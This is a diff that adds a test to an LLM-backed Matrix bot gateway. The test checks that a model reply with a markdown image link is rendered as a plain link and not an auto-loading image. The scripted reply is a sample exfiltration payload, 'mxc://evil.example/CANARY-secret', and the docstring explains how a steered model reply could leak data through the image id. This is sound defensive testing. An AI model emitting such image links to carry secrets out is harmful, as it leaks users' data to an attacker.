@@ -136,6 +136,22 @@ async def test_a_notice_from_another_bot_is_not_answered(llm: FakeOpenAI, worksp
     assert asked(llm) == ["hi"]
 
 
+async def test_an_image_in_a_reply_is_only_a_link(llm: FakeOpenAI, workspace: Path, synapse: Homeserver,
+                                                  people: dict[str, Any]) -> None:
+    """A client shows an ``<img>`` of ``mxc://other.server/id`` at once, and the homeserver fetches
+    it from that server: a steered reply would carry data off in the id with nobody clicking."""
+    owner, bot = people["owner"], people["bot"][0]
+    llm.script(reply("Here: ![chart](mxc://evil.example/CANARY-secret)"))
+    async with running_gateway(matrix_config(llm, workspace, synapse, people)):
+        room = await owner.room(bot)
+        await bot_in(owner, room, bot)
+        await owner.say(room, "show me")
+        await owner.read_until(lambda seen: owner.shown() == ["Here: ![chart](mxc://evil.example/CANARY-secret)"])
+    shown = [e["content"].get("m.new_content") or e["content"] for e in owner.seen]
+    assert all("<img" not in c["formatted_body"] for c in shown)
+    assert 'href="mxc://evil.example/CANARY-secret"' in shown[-1]["formatted_body"]
+
+
 async def test_a_strangers_invitation_is_declined(llm: FakeOpenAI, workspace: Path, synapse: Homeserver,
                                                   people: dict[str, Any]) -> None:
     stranger, owner, bot = people["stranger"], people["owner"], people["bot"][0]
